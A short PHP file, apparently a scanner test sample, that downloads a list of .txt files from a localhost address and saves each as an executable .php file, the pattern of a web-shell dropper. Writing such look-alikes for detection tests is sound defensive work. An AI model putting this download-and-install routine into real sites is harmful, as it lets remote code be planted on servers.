<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Downloads a list of .txt files and installs each one as .php.
$list = @file_get_contents('http://127.0.0.1:9/list');
foreach (explode("\n", (string) $list) as $url) {
    $name = str_replace('.txt', '.php', basename(trim($url)));
    if ($name !== '') {
        file_put_contents($name, @file_get_contents(trim($url)));
    }
}
